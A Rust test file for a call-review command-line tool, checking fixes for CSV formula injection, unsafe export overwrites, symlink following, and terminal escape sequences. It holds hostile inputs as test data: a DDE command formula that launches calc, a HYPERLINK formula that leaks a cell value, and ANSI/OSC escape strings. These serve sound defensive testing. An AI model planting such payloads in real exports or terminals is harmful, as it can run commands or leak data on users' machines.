//! Issue 12: exports and files that cannot hurt. Each test reproduces one defect through the
//! built binary on real files in a temporary folder: formula injection in CSV (1), an export
//! written over the database or other files (2), clip sets landing in one folder (3), a
//! changed call exported as the clip (4), links in the export folder followed (5), long names
//! (6), a closed pipe panicking (9), escape sequences reaching the terminal (10).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod cli_common;

use cli_common::{corpus, ok, text};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_callqa");

/// A temporary folder with a review database `qa.sqlite3` and copies of corpus calls.
struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        Env { dir: tempfile::tempdir().unwrap() }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }

    fn db(&self) -> PathBuf {
        self.path().join("qa.sqlite3")
    }

    /// A copy of a corpus call, under `name` in the temporary folder.
    fn call(&self, corpus_name: &str, name: &str) -> PathBuf {
        let to = self.path().join(name);
        std::fs::copy(corpus(corpus_name), &to).unwrap();
        to
    }

    fn cmd(&self) -> Command {
        let mut c = Command::new(BIN);
        c.arg("--db").arg(self.db()).env_remove("CALLQA_DB").env("HOME", self.path());
        c
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd().args(args).output().unwrap()
    }

    /// Runs with standard output already closed by its reader (`| head` that has gone away).
    fn run_closed_stdout(&self, args: &[&str]) -> Output {
        let (reader, writer) = std::io::pipe().unwrap();
        drop(reader);
        self.cmd().args(args).stdout(writer).stderr(Stdio::piped()).output().unwrap()
    }

    /// A 1 s good clip (values given as `--x=VALUE`: a note may start with `-`).
    fn clip(&self, call: &Path, set: &str, note: &str, author: &str) {
        let (set, author, note) =
            (format!("--set={set}"), format!("--author={author}"), format!("--note={note}"));
        ok(&self.run(&[
            "clip",
            call.to_str().unwrap(),
            "--from",
            "1",
            "--to",
            "2",
            "--good",
            &set,
            &author,
            &note,
        ]));
    }

    fn reviews(&self) -> i64 {
        let c = rusqlite::Connection::open(self.db()).unwrap();
        c.query_row("SELECT count(*) FROM reviews", [], |r| r.get(0)).unwrap()
    }
}

/// Exit 2 (refused), a message, no panic; returns stderr.
fn refused(out: &Output) -> String {
    let err = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(2),
        "expected a refusal (exit 2)\nstdout: {}\nstderr: {err}",
        text(&out.stdout)
    );
    assert!(!err.contains("panicked"), "{err}");
    err
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "CSV must start with a UTF-8 BOM");
    let mut r = csv::Reader::from_reader(&bytes[3..]);
    let header = r.headers().unwrap().iter().map(String::from).collect();
    let rows = r.records().map(|rec| rec.unwrap().iter().map(String::from).collect()).collect();
    (header, rows)
}

fn col<'a>(header: &[String], row: &'a [String], name: &str) -> &'a str {
    let i = header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no column {name}: {header:?}"));
    &row[i]
}

/// Every file under `dir` (relative names), sorted.
fn files_under(dir: &Path) -> Vec<String> {
    fn walk(base: &Path, dir: &Path, out: &mut Vec<String>) {
        for e in std::fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            if meta.is_dir() {
                walk(base, &p, out);
            } else {
                out.push(p.strip_prefix(base).unwrap().to_string_lossy().into_owned());
            }
        }
    }
    let mut out = Vec::new();
    if dir.exists() {
        walk(dir, dir, &mut out);
    }
    out.sort();
    out
}

const HOSTILE_REVIEWER: &str = "=cmd|'/C calc'!A0";
const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"Click\")";

/// Defect 1: formula-like text is neutralised in both CSV exports; numbers stay numbers;
/// `--raw` writes the text as stored.
#[test]
fn csv_exports_neutralise_formulas_and_keep_numbers() {
    let env = Env::new();
    let call = env.call("dev_f_brief.wav", "dev_f_brief.wav");
    let comments = [
        ("let_customer_finish", HYPERLINK),
        ("no_arguing", "@SUM(1+1)"),
        ("admitted_fault", "+1+1"),
        ("set_callback_time", "\t=1+1"),
    ];
    let mut args = vec![
        "review".to_string(),
        call.to_str().unwrap().into(),
        "--reviewer".into(),
        HOSTILE_REVIEWER.into(),
        "--answer".into(),
        "let_customer_finish=no@1.5".into(),
        "--answer".into(),
        "no_arguing=yes".into(),
        "--answer".into(),
        "admitted_fault=yes".into(),
        "--answer".into(),
        "set_callback_time=na".into(),
    ];
    for (k, v) in comments {
        args.extend(["--comment".to_string(), format!("{k}={v}")]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    ok(&env.run(&args));
    let second = env.call("dev_a_courteous.wav", "dev_a_courteous.wav");
    ok(&env.run(&[
        "review",
        second.to_str().unwrap(),
        "--reviewer",
        "Asha",
        "--answer",
        "no_arguing=yes",
        "--comment",
        "no_arguing=\r=1+1",
    ]));

    let out = env.path().join("out.csv");
    ok(&env.run(&["export", "--csv", out.to_str().unwrap()]));
    let (h, rows) = read_csv(&out);
    let r = rows.iter().find(|r| col(&h, r, "reviewer").contains("calc")).unwrap();
    assert_eq!(col(&h, r, "reviewer"), format!("'{HOSTILE_REVIEWER}"));
    for (k, v) in comments {
        assert_eq!(col(&h, r, &format!("{k}_comment")), format!("'{v}"), "{k}");
    }
    // Numbers are numbers: not prefixed.
    assert_eq!(col(&h, r, "score_percent"), "66.7");
    assert_eq!(col(&h, r, "points"), "2");
    assert!(col(&h, r, "review_id").parse::<i64>().is_ok());
    assert_eq!(col(&h, r, "let_customer_finish_evidence_s"), "1.5");
    let a = rows.iter().find(|r| col(&h, r, "reviewer") == "Asha").unwrap();
    assert_eq!(col(&h, a, "no_arguing_comment"), "'\r=1+1");
    // No cell of the file starts a formula.
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
        }
    }

    // --raw: exactly what was entered (and an existing file needs --force).
    let err = refused(&env.run(&["export", "--csv", out.to_str().unwrap(), "--raw"]));
    assert!(err.contains("--force"), "{err}");
    ok(&env.run(&["export", "--csv", out.to_str().unwrap(), "--raw", "--force"]));
    let (h, rows) = read_csv(&out);
    let r = rows.iter().find(|r| col(&h, r, "reviewer").contains("calc")).unwrap();
    assert_eq!(col(&h, r, "reviewer"), HOSTILE_REVIEWER);
    assert_eq!(col(&h, r, "let_customer_finish_comment"), HYPERLINK);

    // The clips' index.csv: notes and authors neutralised, seconds a number.
    env.clip(&call, "Set", "=1+1", "@Priya");
    env.clip(&call, "Set", "-2", "+Ravi");
    let dir = env.path().join("clips");
    ok(&env.run(&["clips", "--export", dir.to_str().unwrap()]));
    let (h, rows) = read_csv(&dir.join("Set/index.csv"));
    assert_eq!(rows.len(), 2);
    assert_eq!((col(&h, &rows[0], "note"), col(&h, &rows[0], "author")), ("'=1+1", "'@Priya"));
    assert_eq!((col(&h, &rows[1], "note"), col(&h, &rows[1], "author")), ("'-2", "'+Ravi"));
    assert_eq!(col(&h, &rows[0], "seconds"), "1.0");
    let raw = env.path().join("clips-raw");
    ok(&env.run(&["clips", "--export", raw.to_str().unwrap(), "--raw"]));
    let (h, rows) = read_csv(&raw.join("Set/index.csv"));
    assert_eq!((col(&h, &rows[0], "note"), col(&h, &rows[0], "author")), ("=1+1", "@Priya"));
}

/// Defect 2: `CALLQA_DB=x.sqlite callqa export --csv x.sqlite` destroyed every review. Now
/// the database (however it is named), a call's recording, a link and (without --force) any
/// existing file are refused with exit 2 and left as they were.
#[test]
fn export_never_overwrites_the_database_audio_links_or_files_without_force() {
    let env = Env::new();
    let d = env.path();
    let call = env.call("dev_f_brief.wav", "call.wav");
    ok(&env.run(&["review", call.to_str().unwrap(), "--reviewer", "A", "--answer", "no_arguing=yes"]));
    let db = d.join("x.sqlite");
    std::fs::rename(env.db(), &db).unwrap();
    let _ = std::fs::remove_file(d.join("qa.sqlite3-wal"));
    let _ = std::fs::remove_file(d.join("qa.sqlite3-shm"));
    let db_bytes = std::fs::read(&db).unwrap();
    let hard = d.join("hard-link.csv");
    std::fs::hard_link(&db, &hard).unwrap();
    let run_in_dir = |args: &[&str]| {
        Command::new(BIN)
            .args(args)
            .current_dir(d)
            .env("CALLQA_DB", "x.sqlite")
            .env("HOME", d)
            .output()
            .unwrap()
    };
    let abs_db = db.to_str().unwrap().to_string();
    let dotted = format!("{}/./x.sqlite", d.display());
    for target in ["x.sqlite", "./x.sqlite", &abs_db, &dotted, "hard-link.csv", "x.sqlite-wal"] {
        for flag in ["--csv", "--json"] {
            for force in [false, true] {
                let mut args = vec!["export", flag, target];
                if force {
                    args.push("--force");
                }
                let err = refused(&run_in_dir(&args));
                assert!(err.contains("review database"), "{args:?}: {err}");
                assert!(!err.contains("exported"), "{err}");
            }
        }
    }
    assert_eq!(std::fs::read(&db).unwrap(), db_bytes, "the database was changed");
    assert!(
        !d.join("x.sqlite-wal").exists() || std::fs::metadata(d.join("x.sqlite-wal")).unwrap().len() == 0
    );
    let c = rusqlite::Connection::open(&db).unwrap();
    let n: i64 = c.query_row("SELECT count(*) FROM reviews", [], |r| r.get(0)).unwrap();
    assert_eq!(n, 1, "the review is still there");
    drop(c);

    // A call's recording, and any WAV, even with --force.
    let call_bytes = std::fs::read(&call).unwrap();
    let other_wav = d.join("other.wav");
    std::fs::copy(corpus("dev_a_courteous.wav"), &other_wav).unwrap();
    let disguised = d.join("audio.csv");
    std::fs::copy(corpus("dev_a_courteous.wav"), &disguised).unwrap();
    for target in ["call.wav", "other.wav", "audio.csv"] {
        let err = refused(&run_in_dir(&["export", "--csv", target, "--force"]));
        assert!(err.contains("audio file"), "{target}: {err}");
    }
    assert_eq!(std::fs::read(&call).unwrap(), call_bytes);
    assert_eq!(std::fs::read(&disguised).unwrap(), std::fs::read(corpus("dev_a_courteous.wav")).unwrap());

    // A link at the destination is never followed, even with --force.
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    std::os::unix::fs::symlink(&victim, d.join("link.csv")).unwrap();
    for force in [false, true] {
        let mut args = vec!["export", "--csv", "link.csv"];
        if force {
            args.push("--force");
        }
        let err = refused(&run_in_dir(&args));
        assert!(err.contains("symbolic link"), "{err}");
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    assert!(std::fs::symlink_metadata(d.join("link.csv")).unwrap().file_type().is_symlink());

    // An existing file: refused without --force (nothing written, not even the other output),
    // replaced with it.
    std::fs::write(d.join("old.csv"), "old").unwrap();
    let err = refused(&run_in_dir(&["export", "--json", "new.json", "--csv", "old.csv"]));
    assert!(err.contains("already exists") && err.contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(d.join("old.csv")).unwrap(), "old");
    assert!(!d.join("new.json").exists(), "a refused export wrote its other file");
    ok(&run_in_dir(&["export", "--json", "new.json", "--csv", "old.csv", "--force"]));
    assert!(std::fs::read(d.join("old.csv")).unwrap().starts_with(b"\xEF\xBB\xBF"));
    assert!(std::fs::read_to_string(d.join("new.json")).unwrap().contains("\"reviews\""));
    let leftovers: Vec<String> = files_under(d).into_iter().filter(|f| f.ends_with(".tmp")).collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");
}

/// Defect 3: sets whose names make the same folder name (`p/q` and `p_q`, `.` and `..`, `x`
/// and `x.`) are exported into different folders; the index maps each set to its folder.
#[test]
fn clip_sets_with_colliding_names_get_their_own_folders() {
    let env = Env::new();
    let call = env.call("dev_f_brief.wav", "call.wav");
    let sets = ["p/q", "p_q", ".", "..", "x", "x.", "X"];
    for set in sets {
        env.clip(&call, set, &format!("note for {set}"), "Priya");
    }
    let dir = env.path().join("export");
    ok(&env.run(&["clips", "--export", dir.to_str().unwrap()]));
    let made = std::fs::read_dir(&dir).unwrap().filter(|e| e.as_ref().unwrap().path().is_dir()).count();
    assert_eq!(made, sets.len(), "one folder per set");
    let (h, rows) = read_csv(&dir.join("index.csv"));
    assert_eq!(rows.len(), sets.len(), "{rows:?}");
    let mut folders = Vec::new();
    for set in sets {
        let row =
            rows.iter().find(|r| col(&h, r, "set") == set).unwrap_or_else(|| panic!("{set} not in {rows:?}"));
        let folder = col(&h, row, "folder").to_string();
        assert_eq!(col(&h, row, "clips"), "1");
        // The folder holds this set's clip and index, nothing else.
        let (ih, irows) = read_csv(&dir.join(&folder).join("index.csv"));
        assert_eq!(irows.len(), 1, "{set}");
        assert_eq!(col(&ih, &irows[0], "note"), format!("note for {set}"));
        assert_eq!(col(&ih, &irows[0], "set"), set);
        let wav = dir.join(&folder).join(col(&ih, &irows[0], "file"));
        assert!(hound::WavReader::open(&wav).is_ok(), "{}", wav.display());
        assert_eq!(std::fs::read_dir(dir.join(&folder)).unwrap().count(), 2);
        folders.push(folder.to_lowercase());
    }
    folders.sort();
    folders.dedup();
    assert_eq!(folders.len(), sets.len(), "two sets share a folder: {folders:?}");
    assert!(folders.iter().all(|f| f != "." && f != ".." && !f.contains('/')), "{folders:?}");
}

/// Defect 4: another file now at a clip's call path is not exported as the clip: that clip is
/// reported and skipped (exit 1), the others are written.
#[test]
fn a_changed_call_is_reported_and_skipped_not_exported() {
    let env = Env::new();
    let moved = env.call("dev_a_courteous.wav", "call.wav");
    let kept = env.call("dev_f_brief.wav", "kept.wav");
    env.clip(&moved, "Set", "from the first call", "Priya");
    env.clip(&kept, "Set", "from the kept call", "Priya");
    // Another recording now sits where the first call was.
    std::fs::copy(corpus("dev_b_cutoff.wav"), &moved).unwrap();
    let dir = env.path().join("export");
    let out = env.run(&["clips", "--export", dir.to_str().unwrap()]);
    let err = text(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(err.contains("clip 1 not exported") && err.contains("not the call"), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    let (h, rows) = read_csv(&dir.join("Set/index.csv"));
    assert_eq!(rows.len(), 1);
    assert_eq!(col(&h, &rows[0], "clip"), "2");
    let files = files_under(&dir.join("Set"));
    assert_eq!(files.len(), 2, "{files:?}");
    assert!(files.iter().any(|f| f.starts_with("02_good_kept")), "{files:?}");
}

/// Defect 5: links already in the export folder are never written through (even with
/// --force), and a refused export writes nothing; an earlier export needs --force to be
/// replaced.
#[test]
fn clip_export_never_follows_links_and_never_overwrites_without_force() {
    let env = Env::new();
    let d = env.path();
    let call = env.call("dev_f_brief.wav", "call.wav");
    env.clip(&call, "Interruptions", "n", "Priya");
    env.clip(&call, "Other", "n", "Priya");
    let dir = d.join("export");
    std::fs::create_dir_all(dir.join("Interruptions")).unwrap();
    let victim = d.join("victim.txt");
    std::fs::write(&victim, "keep me").unwrap();
    std::os::unix::fs::symlink(&victim, dir.join("Interruptions/index.csv")).unwrap();
    let elsewhere = d.join("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, dir.join("Other")).unwrap();
    let before = files_under(&dir);
    for force in [false, true] {
        let mut args = vec!["clips", "--export", dir.to_str().unwrap()];
        if force {
            args.push("--force");
        }
        let err = refused(&env.run(&args));
        assert!(err.contains("symbolic link") && err.contains("nothing was exported"), "{err}");
    }
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "keep me");
    assert_eq!(files_under(&elsewhere), Vec::<String>::new());
    assert_eq!(files_under(&dir), before, "a refused export wrote files");

    // A clean folder: exported; again: refused (exit 2, unchanged); with --force: replaced.
    let clean = d.join("clean");
    ok(&env.run(&["clips", "--export", clean.to_str().unwrap()]));
    let first = files_under(&clean);
    assert_eq!(first.len(), 5, "{first:?}");
    let index = clean.join("Other/index.csv");
    std::fs::write(&index, "edited").unwrap();
    let err = refused(&env.run(&["clips", "--export", clean.to_str().unwrap()]));
    assert!(err.contains("already exists") && err.contains("--force"), "{err}");
    assert_eq!(std::fs::read_to_string(&index).unwrap(), "edited");
    ok(&env.run(&["clips", "--export", clean.to_str().unwrap(), "--force"]));
    assert!(std::fs::read(&index).unwrap().starts_with(b"\xEF\xBB\xBF"));
    assert_eq!(files_under(&clean), first, "no stray temporary files");

    // An exported clip that has since been reviewed as a call is a recording: never replaced.
    let clip = clean.join(first.iter().find(|f| f.starts_with("Other/") && f.ends_with(".wav")).unwrap());
    ok(&env.run(&["review", clip.to_str().unwrap(), "--reviewer", "A", "--answer", "no_arguing=yes"]));
    let bytes = std::fs::read(&clip).unwrap();
    let err = refused(&env.run(&["clips", "--export", clean.to_str().unwrap(), "--force"]));
    assert!(err.contains("audio file") && err.contains("nothing was exported"), "{err}");
    assert_eq!(std::fs::read(&clip).unwrap(), bytes);
}

/// Defect 6: a set name over 255 bytes and a 240-byte call name are shortened (between
/// characters, keeping the clip id) instead of failing.
#[test]
fn long_set_and_call_names_are_shortened_keeping_the_clip_id() {
    let env = Env::new();
    let long_stem = "क".repeat(78) + "ab"; // 236 bytes
    let call = env.call("dev_f_brief.wav", &format!("{long_stem}.wav"));
    assert_eq!(call.file_name().unwrap().len(), 240);
    let long_set = "ग्राहक ".repeat(20); // 380 bytes
    env.clip(&call, &long_set, "long", "Priya");
    let short = env.call("dev_a_courteous.wav", "short.wav");
    env.clip(&short, &long_set, "short", "Priya");
    let dir = env.path().join("export");
    ok(&env.run(&["clips", "--export", dir.to_str().unwrap()]));
    let (h, rows) = read_csv(&dir.join("index.csv"));
    assert_eq!(rows.len(), 1);
    assert_eq!(col(&h, &rows[0], "set"), long_set.trim());
    let folder = col(&h, &rows[0], "folder");
    assert!(folder.len() <= 255 && long_set.trim().replace(' ', "_").starts_with(folder), "{folder}");
    let (ih, irows) = read_csv(&dir.join(folder).join("index.csv"));
    assert_eq!(irows.len(), 2);
    for (row, id) in irows.iter().zip(["1", "2"]) {
        let name = col(&ih, row, "file");
        assert!(name.len() <= 255, "{} bytes", name.len());
        assert!(name.starts_with(&format!("0{id}_good_")) && name.ends_with(".wav"), "{name}");
        assert!(hound::WavReader::open(dir.join(folder).join(name)).is_ok());
    }
    assert!(col(&ih, &irows[0], "file").contains("ककक"));
}

/// Defect 9: a closed standard output (`| head`) ends the printing quietly: exit 0, the work
/// done (the review saved, the clips exported), no panic.
#[test]
fn a_closed_pipe_ends_output_quietly_after_the_work_is_done() {
    let env = Env::new();
    let a = env.call("dev_a_courteous.wav", "a.wav");
    let b = env.call("dev_f_brief.wav", "b.wav");
    let out = env.run_closed_stdout(&["probe", a.to_str().unwrap(), b.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(out.stderr.is_empty(), "{}", text(&out.stderr));

    let out = env.run_closed_stdout(&[
        "review",
        a.to_str().unwrap(),
        "--reviewer",
        "Asha",
        "--answer",
        "no_arguing=yes",
        "--answer",
        "let_customer_finish=no@1.5",
    ]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(!text(&out.stderr).contains("panicked"));
    assert_eq!(env.reviews(), 1, "the review was saved");

    for args in [
        &["export", "--csv", "-"][..],
        &["export", "--json", "-"][..],
        &["report"][..],
        &["analyze", a.to_str().unwrap()][..],
    ] {
        let out = env.run_closed_stdout(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", text(&out.stderr));
        assert!(out.stderr.is_empty(), "{args:?}: {}", text(&out.stderr));
    }
    env.clip(&b, "Set", "n", "Priya");
    let dir = env.path().join("export");
    let out = env.run_closed_stdout(&["clips", "--export", dir.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(dir.join("Set/index.csv").exists(), "the export went on after the pipe closed");
}

/// Defect 10: control characters stored in the database are shown escaped, never sent to
/// the terminal as they are; JSON output stays exact.
#[test]
fn stored_text_reaches_the_terminal_with_control_characters_escaped() {
    let env = Env::new();
    let call = env.call("dev_f_brief.wav", "call.wav");
    let set = "\x1b[31mRed set";
    let note = "\x1b]0;pwned\x07\x1b[2J cleared";
    env.clip(&call, set, note, "Priya\u{202E}");
    let listed = ok(&env.run(&["clips"]));
    assert!(
        !listed.contains('\x1b') && !listed.contains('\x07') && !listed.contains('\u{202E}'),
        "{listed:?}"
    );
    assert!(listed.contains("\\u{1b}[31mRed set") && listed.contains("\\u{1b}]0;pwned\\u{7}"), "{listed}");
    let json: serde_json::Value = serde_json::from_str(&ok(&env.run(&["clips", "--json"]))).unwrap();
    assert_eq!(json[0]["note"], note);
    assert_eq!(json[0]["set"], set);

    let out = ok(&env.run(&[
        "review",
        call.to_str().unwrap(),
        "--reviewer",
        "Eve\x1b[8m",
        "--answer",
        "no_arguing=yes",
        "--comment",
        "no_arguing=fine\x1b[2K\rall good",
    ]));
    assert!(!out.contains('\x1b') && !out.contains('\r'), "{out:?}");
    assert!(out.contains("Eve\\u{1b}[8m") && out.contains("fine\\u{1b}[2K\\rall good"), "{out}");
    let report = ok(&env.run(&["report", "--by", "reviewer", "--include-drafts"]));
    assert!(!report.contains('\x1b') && report.contains("Eve\\u{1b}[8m"), "{report}");
}
